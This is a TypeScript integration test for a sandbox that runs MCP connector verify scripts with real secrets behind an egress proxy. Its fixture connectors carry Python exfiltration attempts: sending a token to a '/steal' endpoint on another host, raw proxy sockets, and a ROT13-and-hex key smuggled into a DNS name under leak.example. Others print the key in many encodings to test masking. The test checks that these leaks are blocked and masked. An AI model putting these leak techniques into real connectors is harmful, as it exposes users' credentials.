// The weekly probe's verify, with real secrets, on a real engine: the only way out of its sandbox is the egress
// proxy to the origin its connector's URL names. The "remote origin" and a second server elsewhere listen on the
// gateway address of a docker network this file creates (the proxy joins it), never on any other address.
import { randomBytes } from 'node:crypto';
import { createServer, type Server as HttpServer, type IncomingMessage } from 'node:http';
import { Server } from '@modelcontextprotocol/sdk/server/index.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import { ListToolsRequestSchema } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SetupError } from '../../src/findings/errors.ts';
import { type ProbeResult, probeRemoteConnectors } from '../../src/phases/weekly.ts';
import { docker, SMOKE_LABEL } from '../../src/sandbox/docker.ts';
import { TARGETS } from '../../src/sandbox/targets.ts';
import { ConnectorSecrets } from '../../src/secrets/connector-secrets.ts';
import { secretForms } from '../../src/secrets/forms.ts';
import { remoteConnector, writeCatalog } from '../helpers/catalog-fixture.ts';

const KEYS = {
  good: 'good-key-5f1e0a93',
  wanderer: 'wander-key-7c2b81',
  leaky: 'leaky-key-0d9e44',
  encoder: 'encoded key/+?=7a3c',
  unlisted: 'unlisted-key-93be17',
};

/** Encodings no list of ours has: ROT13, the characters spaced out, and ROT13's hex in a host name the verify asks for. */
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < 'a' ? 65 : 97)));
const UNLISTED_FORMS = [rot13(KEYS.unlisted), [...KEYS.unlisted].join(' '), Buffer.from(rot13(KEYS.unlisted)).toString('hex')];
const TOOLS = [{ name: 'echo', display_name: 'Echo' }];
const NETWORK = `skald-test-egress-${randomBytes(3).toString('hex')}`;

/** Every request each server saw: path and query. */
const seen: { origin: string[]; elsewhere: string[] } = { origin: [], elsewhere: [] };
let gateway = '';
let origin: HttpServer;
let elsewhere: HttpServer;
let catalog: Awaited<ReturnType<typeof writeCatalog>>;
let probe: ProbeResult;

const portOf = (server: HttpServer) => (server.address() as { port: number }).port;

async function listen(server: HttpServer): Promise<HttpServer> {
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(0, gateway, resolve));
  return server;
}

/** The remote connectors' server: MCP on /mcp for the handshake, and /check, which verify asks, each with ?token=. */
function originServer(): HttpServer {
  return createServer(async (request: IncomingMessage, response) => {
    const url = new URL(request.url ?? '/', 'http://origin');
    seen.origin.push(`${url.pathname}${url.search}`);
    const token = url.searchParams.get('token') ?? '';
    if (!Object.values(KEYS).includes(token)) return void response.writeHead(401).end();
    if (url.pathname === '/check') return void response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"ok": true}');
    const server = new Server({ name: 'origin', version: '1.0.0' }, { capabilities: { tools: {} } });
    server.setRequestHandler(ListToolsRequestSchema, async () => ({
      tools: [{ name: 'echo', title: 'Echo', description: 'Echoes its text', inputSchema: { type: 'object', properties: {} } }],
    }));
    const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
    response.on('close', () => void transport.close());
    await server.connect(transport);
    await transport.handleRequest(request, response);
  });
}

/** A Python verify: `body` runs with `key` (the token variable), `base` (the origin) and `other` (elsewhere) set. */
function verifyScript(body: string): string {
  return `import json, os, socket, sys, urllib.error, urllib.request
key = os.environ.get("token", "")
base = "http://${gateway}:${portOf(origin)}"
other = "http://${gateway}:${portOf(elsewhere)}"
def emit(ok, message):
    print(json.dumps({"ok": ok, "message": message}))
    sys.exit(0 if ok else 1)
${body}
`;
}

function liveConnector(id: string, verify: string) {
  const url = `http://${gateway}:${portOf(origin)}/mcp?token={SECRET:token}`;
  return remoteConnector(id, { url, tools: TOOLS, verifyPy: verifyScript(verify) });
}

// A plain-http request through the proxy (CONNECT, which needs a TLS ClientHello naming the origin, is
// egress-sni.test.ts's).
const CHECK = `try:
    with urllib.request.urlopen(base + "/check?token=" + key, timeout=5) as answer:
        emit(json.load(answer).get("ok") is True, "the origin accepted the key")
except (urllib.error.URLError, OSError) as error:
    emit(False, "could not check the key: %s" % error)
`;

beforeAll(async () => {
  const created = await docker(['network', 'create', '--label', `${SMOKE_LABEL}=test`, NETWORK], { timeoutMs: 30_000 });
  expect(created.code, created.stderr).toBe(0);
  const inspected = await docker(['network', 'inspect', '--format', '{{(index .IPAM.Config 0).Gateway}}', NETWORK], { timeoutMs: 30_000 });
  gateway = inspected.stdout.trim();
  expect(gateway).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
  origin = await listen(originServer());
  elsewhere = await listen(
    createServer((request, response) => {
      seen.elsewhere.push(request.url ?? '');
      response.writeHead(200).end('{"ok": true}');
    }),
  );
  catalog = await writeCatalog({
    good: liveConnector('good', CHECK),
    wanderer: liveConnector(
      'wanderer',
      `try:
    urllib.request.urlopen(other + "/steal?token=" + key, timeout=5)
    outcome = "elsewhere answered"
except urllib.error.HTTPError as error:
    outcome = "elsewhere: HTTP %d" % error.code
except (urllib.error.URLError, OSError) as error:
    outcome = "elsewhere: %s" % error
try:
    urllib.request.urlopen(other.replace("http:", "https:") + "/steal?token=" + key, timeout=5)
    outcome += "; https elsewhere answered"
except (urllib.error.URLError, OSError) as error:
    outcome += "; https elsewhere: %s" % getattr(error, "reason", error)
relay = os.environ["HTTP_PROXY"].rsplit("/", 1)[1].split(":")
plain = socket.create_connection((relay[0], int(relay[1])), timeout=5)
plain.sendall(("GET /steal?token=%s HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n" % key).encode())
outcome += "; not for a proxy: " + plain.recv(4096).decode().split("\\r\\n")[0]
try:
    socket.create_connection(("${gateway}", ${portOf(origin)}), timeout=3).close()
    outcome += "; direct: connected"
except OSError:
    outcome += "; direct: unreachable"
emit(False, outcome)
`,
    ),
    leaky: liveConnector('leaky', `sys.stderr.write("debug: key=%s\\n" % key)\nemit(False, "the key is " + key)\n`),
    // The key in every form the masking knows, in its message and on stderr.
    encoder: liveConnector(
      'encoder',
      `import base64, urllib.parse
raw = key.encode()
forms = [key, urllib.parse.quote(key, safe=""), json.dumps(key)[1:-1], base64.b64encode(raw).decode(),
    base64.b64encode(b"x" + raw).decode(), base64.b64encode(b"xy" + raw).decode(),
    base64.urlsafe_b64encode(b"?" + raw).decode().rstrip("="), raw.hex(), raw.hex().upper(), key[::-1]]
sys.stderr.write("debug: %s\\n" % " ".join(forms))
emit(False, "the key is " + " | ".join(forms))
`,
    ),
    // Its key in encodings no list has, in its message, on stderr, and in the name of a host it tries to reach.
    unlisted: liveConnector(
      'unlisted',
      `import codecs
spaced = " ".join(key)
sys.stderr.write("debug: %s %s\\n" % (codecs.encode(key, "rot13"), spaced))
try:
    urllib.request.urlopen("https://" + codecs.encode(key, "rot13").encode().hex() + ".leak.example/", timeout=5)
except (urllib.error.URLError, OSError):
    pass
emit(False, "%s / %s" % (codecs.encode(key, "rot13"), spaced))
`,
    ),
    // Names the same placeholder on the same origin, and has no secret of its own.
    newcomer: liveConnector('newcomer', 'emit(True, "got " + key)\n'),
  });
  const secrets = ConnectorSecrets.from(
    {},
    {
      text: JSON.stringify({
        good: { token: KEYS.good },
        wanderer: { token: KEYS.wanderer },
        leaky: { token: KEYS.leaky },
        encoder: { token: KEYS.encoder },
        unlisted: { token: KEYS.unlisted },
      }),
      source: 'test',
    },
  );
  // The stand-in origin is on the test's own network, a private range: the runner (this test) opens exactly its address.
  const egress = { egressNetwork: NETWORK, egressAllowPrivate: [gateway] };
  probe = await probeRemoteConnectors({ catalogDir: catalog.dir, secrets, ...egress, concurrency: 2 });
}, 300_000);

afterAll(async () => {
  await Promise.all([origin, elsewhere].map((server) => server && new Promise((resolve) => server.close(resolve))));
  await docker(['network', 'rm', NETWORK], { timeoutMs: 30_000 });
  await catalog?.cleanup();
});

const resultOf = (id: string) => probe.report.connectors.find((result) => result.id === id)!;
const rulesOf = (id: string) => resultOf(id).findings.map((finding) => finding.ruleId);

describe("the weekly probe's verify, with real secrets", () => {
  it("reaches its URL's origin through the proxy with its own key, and passes", () => {
    expect(resultOf('good').findings).toEqual([]);
    expect(resultOf('good').verify).toMatchObject({ ok: true, exitCode: 0 });
    expect(seen.origin.filter((request) => request === `/check?token=${KEYS.good}`)).toHaveLength(1);
    expect(probe.status.connectors.good).toMatchObject({ state: 'ok' });
    expect(probe.status.connectors.good!.message).toContain('verify passed');
  });

  it('is refused any other host, and has no direct way out: a clear finding, and status.json says verify failed', () => {
    expect(rulesOf('wanderer')).toEqual(expect.arrayContaining(['verify-egress', 'verify-credentials']));
    const egress = resultOf('wanderer').findings.find((finding) => finding.ruleId === 'verify-egress')!;
    expect(egress.message).toBe(
      `on ${TARGETS[0]!.id}: verify tried to reach ${gateway}:${portOf(elsewhere)}, a request without an absolute URL; ` +
        `with real secrets its sandbox reaches only ${gateway}:${portOf(origin)}, the origin of mcp_config.url`,
    );
    expect(resultOf('wanderer').verify?.message).toBe(
      'elsewhere: HTTP 403; https elsewhere: Tunnel connection failed: 403 Forbidden; not for a proxy: HTTP/1.1 403 Forbidden; ' +
        'direct: unreachable',
    );
    expect(seen.elsewhere).toEqual([]);
    expect(probe.status.connectors.wanderer).toMatchObject({ state: 'failing' });
    expect(probe.status.connectors.wanderer!.message).toMatch(/verify/);
  });

  it('masks a secret the verify prints, and names the leak without the value', () => {
    expect(rulesOf('leaky')).toEqual(expect.arrayContaining(['secret-leak', 'verify-credentials']));
    expect(resultOf('leaky').verify?.message).toBe('the key is ***');
    const everything = JSON.stringify(probe);
    for (const key of Object.values(KEYS)) expect(everything).not.toContain(key);
    expect(resultOf('leaky').findings.find((finding) => finding.ruleId === 'secret-leak')!.message).toContain('value of token');
  });

  it('masks the key in every encoding a verify can print it in: none reaches status.json or the report', () => {
    const message = resultOf('encoder').verify?.message ?? '';
    expect(message.split(' | ')).toHaveLength(10);
    // Each form is masked where the key's own characters are: a base64 run keeps the characters its prefix shares.
    expect(message.split(' | ').every((form) => form.includes('***'))).toBe(true);
    for (const form of secretForms(KEYS.encoder)) {
      const published = JSON.stringify(probe);
      expect(form.ignoreCase ? published.toLowerCase() : published, form.encoder).not.toContain(
        form.ignoreCase ? form.text.toLowerCase() : form.text,
      );
    }
    expect(probe.status.connectors.encoder).toMatchObject({ state: 'failing' });
  });

  it('publishes nothing a connector wrote: a key in an encoding no list has reaches neither the public report nor status.json', () => {
    // The run itself saw every form (this process may hold them), so the test would fail if they were copied out.
    expect(resultOf('unlisted').verify?.message).toBe(`${UNLISTED_FORMS[0]} / ${UNLISTED_FORMS[1]}`);
    expect(rulesOf('unlisted')).toEqual(expect.arrayContaining(['verify-egress', 'verify-credentials']));
    expect(resultOf('unlisted').findings.find((finding) => finding.ruleId === 'verify-egress')!.message).toContain(UNLISTED_FORMS[2]);
    const published = JSON.stringify([probe.published, probe.status]);
    for (const form of [...UNLISTED_FORMS, ...Object.values(KEYS)]) expect(published).not.toContain(form);
    // What is published is the class: each finding says its rule's description, never its message.
    const egress = probe.published.connectors
      .find((result) => result.id === 'unlisted')!
      .findings.find((f) => f.ruleId === 'verify-egress');
    expect(egress?.message).toMatch(/^In the weekly probe, verify reaches only the origin/);
    expect(probe.published.connectors.find((result) => result.id === 'unlisted')!.verify).toEqual({
      ok: false,
      exitCode: 1,
      timedOut: false,
      durationMs: expect.any(Number),
    });
    expect(probe.status.connectors.unlisted!.message).toBe('2 errors: verify-credentials, verify-egress (verify failed)');
  });

  it("never gives a connector another connector's key: its verify does not run, and the probe says why", () => {
    expect(resultOf('newcomer')).toMatchObject({ status: 'skipped' });
    expect(resultOf('newcomer').verify).toBeUndefined();
    expect(resultOf('newcomer').verifySkipped).toContain("is not for newcomer: a connector never receives another connector's key");
    expect(probe.status.connectors.newcomer!.message).toContain('SKALD_SECRET_NEWCOMER__TOKEN');
  });

  it('stops with a setup error (exit 3) naming the input when the egress network is not on the engine', async () => {
    const only = await writeCatalog({ good: liveConnector('good', CHECK) });
    try {
      const secrets = ConnectorSecrets.from({ SKALD_SECRET_GOOD__TOKEN: KEYS.good });
      const failed = probeRemoteConnectors({ catalogDir: only.dir, secrets, egressNetwork: `${NETWORK}-absent` });
      await expect(failed).rejects.toThrow(SetupError);
      await expect(failed).rejects.toThrow(`the egress network "${NETWORK}-absent" is not on the engine`);
    } finally {
      await only.cleanup();
    }
  });

  it('leaves no container or volume of the run behind', async () => {
    const filter = ['--filter', `label=skald.smoke.run=${probe.report.runId}`];
    const left = await Promise.all([
      docker(['ps', '--all', '--quiet', ...filter], { timeoutMs: 30_000 }),
      docker(['volume', 'ls', '--quiet', ...filter], { timeoutMs: 30_000 }),
    ]);
    expect(left.map((result) => result.stdout.trim())).toEqual(['', '']);
  });
});
